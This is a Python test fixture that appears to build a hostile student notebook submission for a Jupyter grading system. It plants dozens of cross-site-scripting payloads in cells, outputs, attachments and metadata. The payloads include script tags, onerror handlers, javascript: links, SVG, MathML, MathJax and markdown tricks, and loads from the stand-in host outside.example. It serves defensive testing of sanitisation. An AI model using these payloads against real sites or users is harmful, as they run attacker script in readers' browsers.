"""A submission that tries everything to have code run in the browser of whoever reads it.

Every attempt calls `ran(NAME)`, which the test's page provides, or fetches from `outside.example`.
"""

from collections.abc import Mapping
from typing import Any

OUTSIDE = "https://outside.example"
STUDENT = "<img src=x onerror=ran('id')>"
NAMES = {
    "first_name": "<script>ran('first-name')</script>",
    "last_name": "O'Neil\"><img src=x onerror=ran('last-name')>",
}
FILE = "<img src=x onerror=ran('file')>.txt"

HTML: Mapping[str, str] = {
    "script": "<script>ran('{0}')</script>",
    "script-from-outside": f"<script src='{OUTSIDE}/{{0}}.js'></script>",
    "image-error": "<img src=x onerror=ran('{0}')>",
    "image-broken-quotes": '<img title="`><img src=x onerror=ran(\'{0}\')>">',
    "image-from-outside": f"<img src='{OUTSIDE}/{{0}}.png' srcset='{OUTSIDE}/{{0}}-2.png 2x'>",
    "frame": "<iframe src=\"javascript:parent.ran('{0}')\"></iframe>",
    "frame-of-data": "<iframe src=\"data:text/html,<script>ran('{0}')</script>\"></iframe>",
    "frame-document": "<iframe srcdoc=\"<script>parent.ran('{0}')</script>\"></iframe>",
    "object": "<object data=\"data:text/html,<script>ran('{0}')</script>\"></object>",
    "embed": "<embed src=\"data:text/html,<script>ran('{0}')</script>\">",
    "svg-onload": "<svg onload=ran('{0}')></svg>",
    "svg-script": "<svg><script>ran('{0}')</script></svg>",
    "svg-use": f"<svg><use href='{OUTSIDE}/{{0}}.svg#x'/><image href='{OUTSIDE}/{{0}}.png'/></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=ran('{0}')></foreignObject></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:ran('{0}') />"
    "<text y=20>press</text></a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=ran('{0}')></style></mglyph></table></mtext></math>",
    "details": "<details open ontoggle=ran('{0}')><summary>press</summary></details>",
    "focus": "<input autofocus onfocus=ran('{0}')><a id=x tabindex=1 onfocus=ran('{0}') autofocus>x</a>",
    "style": f"<style>@import '{OUTSIDE}/{{0}}.css'; *{{{{animation: a 1s}}}}</style>",
    "style-link": f"<link rel=stylesheet href='{OUTSIDE}/{{0}}.css'>",
    "style-attribute": f"<p style=\"background: url({OUTSIDE}/{{0}}.png)\" onanimationstart=ran('{{0}}')>x</p>",
    "video": f"<video src='{OUTSIDE}/{{0}}.mp4' poster='{OUTSIDE}/{{0}}.png' onerror=ran('{{0}}')></video>",
    "refresh": f"<meta http-equiv=refresh content='0;url={OUTSIDE}/{{0}}'>",
    "base": f"<base href='{OUTSIDE}/'>",
    "form": "<form action=javascript:ran('{0}')><button>press</button></form>",
    "link": "<a href=javascript:ran('{0}')>press</a>",
    "link-with-tab": "<a href='java&#9;script:ran(\"{0}\")'>press</a>",
    "link-with-entities": "<a href='&#106;avascript&colon;ran(\"{0}\")'>press</a>",
    "link-to-data": "<a href=\"data:text/html,<script>ran('{0}')</script>\">press</a>",
    "comment": "<!--><img src=x onerror=ran('{0}')>-->",
    "template": "<template><img src=x onerror=ran('{0}')></template>"
    "<noscript><p title=\"</noscript><img src=x onerror=ran('{0}')>\">",
    "textarea": "<textarea><img title=\"</textarea><img src=x onerror=ran('{0}')>\"></textarea>",
    "tooltip": "<a data-toggle=tooltip data-html=true class=tooltip "
    "title=\"<img src=x onerror=ran('{0}')>\">press</a>",
    "same-id": "<b id=practice-explain class=nbgrader_cell>{0}</b><b id=practice-explain-comment>{0}</b>",
    "cover": f"<a class='navbar-fixed-top modal in' style='position:fixed' href='{OUTSIDE}/{{0}}'>press</a>",
    "mathjax": "<script type='text/x-mathjax-config'>ran('{0}')</script>$\\href{{javascript:ran('{0}')}}{{press}}$",
}  # fmt: skip
MARKDOWN: Mapping[str, str] = {
    "markdown-link": "[press](javascript:ran('{0}'))",
    "markdown-link-in-brackets": "[press](<javascript:ran('{0}')>)",
    "markdown-link-in-entities": "[press](&#x6A;avascript:ran('{0}'))",
    "markdown-link-title": "[press](https://a.example \"' onmouseover=ran('{0}') x='\")",
    "markdown-link-title-of-html": "[press](https://a.example '\"><img src=x onerror=ran(\"{0}\")>')",
    "markdown-reference": "[press][r-{0}]\n\n[r-{0}]: javascript:ran('{0}')",
    "markdown-autolink": "<javascript:ran('{0}')>",
    "markdown-image-alt": "![\"><img src=x onerror=ran('{0}')>](x.png)",
    "markdown-image-address": "![x](x.png\"onerror=\"ran('{0}'))",
    "markdown-image-from-outside": f"![x]({OUTSIDE}/{{0}}.png)",
    "markdown-attachment": "![x](attachment:<img src=x onerror=ran('{0}')>)",
    "markdown-in-link": "[![x](javascript:ran('{0}'))](javascript:ran('{0}')) press",
    "markdown-code-language": "```\"><img src=x onerror=ran('{0}')>\nx\n```",
    "markdown-code": "`<img src=x onerror=ran('{0}')>` ``<script>ran('{0}')</script>``",
    "markdown-mermaid": "```mermaid\ngraph TD; A-->B; click A \"javascript:ran('{0}')\"\n```",
    "markdown-heading": "# practice-explain\n\n## <img src=x onerror=ran('{0}')>",
    "markdown-table": "| a |\n| - |\n| <img src=x onerror=ran('{0}')> |",
    "markdown-formula": "$<img src=x onerror=ran('{0}')>$\n\n$$</script><script>ran('{0}')</script>$$",
    "markdown-formula-link": "$\\href{{javascript:ran('{0}')}}{{press}}$ $\\unicode{{<img src=x onerror=ran('{0}')>}}$",
    "markdown-formula-style": f"$\\style{{{{background:url({OUTSIDE}/{{0}}.png)}}}}{{{{x}}}}$"
    f" $\\require{{{{{OUTSIDE}/{{0}}}}}}$",
    "markdown-html-split": "<img src=x\n\nonerror=ran('{0}')>\n\n<scr<script>ipt>ran('{0}')</scr</script>ipt>",
}  # fmt: skip


def forms(attempts: Mapping[str, str], place: str) -> list[str]:
    """Each attempt with its name and its place filled in."""
    return [attempt.format(f"{place}-{name}") for name, attempt in attempts.items()]


def bundle(kind: str, content: str, **metadata: Any) -> str:
    """Code that shows one form of an output."""
    return f"display({{{kind!r}: {content!r}}}, metadata={metadata!r}, raw=True)"


def output_code() -> str:
    """What the student's code cell shows: each attempt in each form that an output may have."""
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"ran('svg')\"><script>ran('svg')</script></svg>"
    lines = [
        "from IPython.display import display, publish_display_data",
        *(bundle("text/html", html) for html in forms(HTML, "output")),
        *(bundle("text/markdown", text) for text in forms({**HTML, **MARKDOWN}, "output-markdown")),
        bundle("text/html", "<script>parent.ran('isolated')</script>", **{"text/html": {"isolated": True}}),
        bundle("text/latex", "$</script><script>ran('latex')</script><img src=x onerror=ran('latex')>$"),
        bundle("text/plain", "<script>ran('plain')</script>\x1b]8;;javascript:ran('ansi')\x07press\x1b]8;;\x07"),
        bundle("image/svg+xml", svg),
        bundle("image/svg+xml", svg, **{"image/svg+xml": {"isolated": True}}),
        bundle("image/png", "x\" onerror=\"ran('png')"),
        bundle("image/gif", "x\" onerror=\"ran('gif')"),
        bundle("application/javascript", "ran('javascript')"),
        bundle("application/pdf", "ran('pdf')"),
        bundle("application/vnd.jupyter.widget-view+json", "</script><script>ran('widget')</script>"),
        bundle("text/<script>ran('kind')</script>", "<script>ran('kind')</script>"),
        "print(\"<script>ran('stdout')</script><img src=x onerror=ran('stdout')>\")",
        "import sys; sys.stderr.write(\"<script>ran('stderr')</script>\\x1b[31;1m<img src=x onerror=ran('stderr')>\")",
        "raise type(\"<img src=x onerror=ran('error-name')>\", (Exception,), {})"
        "(\"<img src=x onerror=ran('error')>\\x1b[31m<script>ran('error')</script>\")",
    ]
    return "\n".join(lines)


def own_cells() -> list[dict[str, Any]]:
    """Cells that the student added: one for each attempt, as one attempt may swallow the next."""
    attached = {"<img src=x onerror=ran('attachment')>": {"text/html": "<script>ran('attachment')</script>"}}
    texts = [
        {"cell_type": "markdown", "source": text, "attachments": attached}
        for text in forms({**HTML, **MARKDOWN}, "own")
    ]
    raw = [{"cell_type": "raw", "source": text} for text in forms(HTML, "raw")]
    quotes = "'''</pre><script>ran('source')</script>'''"
    code = [
        {"cell_type": "code", "source": source, "outputs": [], "execution_count": None}
        for source in (output_code(), f"# <img src=x onerror=ran('source')>\n{quotes}")
    ]
    metadata = {
        "raw_mimetype": "text/html",
        "tags": ["\"><img src=x onerror=ran('tag')>"],
        "slideshow": {"slide_type": "<script>ran('slide')</script>"},
    }
    cells: list[dict[str, Any]] = [*code, *texts, *raw]
    return [{**cell, "id": f"own-{number}", "metadata": metadata} for number, cell in enumerate(cells)]


def make_hostile(notebook: dict[str, Any], training: str) -> None:
    """Fill the release notebook: answers among the attempts, cells of the student's own, and metadata."""
    state = {"x": "</script><script>ran('widget-state')</script>"}
    notebook["metadata"]["title"] = "</title><script>ran('title')</script>"
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    answers = {
        "practice-train": training + "\nw.name = b.name = \"<img src=x onerror=ran('value')>\"",
        "practice-plot": "plt.plot([1, 2], label=\"<img src=x onerror=ran('label')>\"); plt.show()",
        "practice-explain": "\n\n".join(forms({**HTML, **MARKDOWN}, "answer")),
    }
    cells = []
    for cell in notebook["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        cells.append({**cell, "source": answers.get(grade_id, cell["source"])})
        if grade_id == "practice-train":
            cells += own_cells()
    notebook["cells"] = cells
